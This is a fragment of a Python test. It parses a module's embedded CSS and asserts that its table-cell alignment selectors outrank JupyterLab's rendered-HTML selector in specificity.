    theirs = specificity(":not(.jp-RenderedMarkdown).jp-RenderedHTMLCommon td")
    assert theirs == (0, 2, 1)
    css = re.sub(r"/\*.*?\*/", "", _display.STYLE, flags=re.DOTALL)
    rules = re.findall(r"([^{}]+)\{([^}]*)\}", css.removeprefix("<style>"))
    aligning = [
        selector.strip()
        for selectors, body in rules
        if "text-align" in body or "white-space" in body
        for selector in selectors.split(",")
        if re.search(r"\b(td|th)\b|\.lc-(num|text|token)", selector)
    ]
    assert aligning
    for selector in aligning:
        assert specificity(selector) > theirs, selector
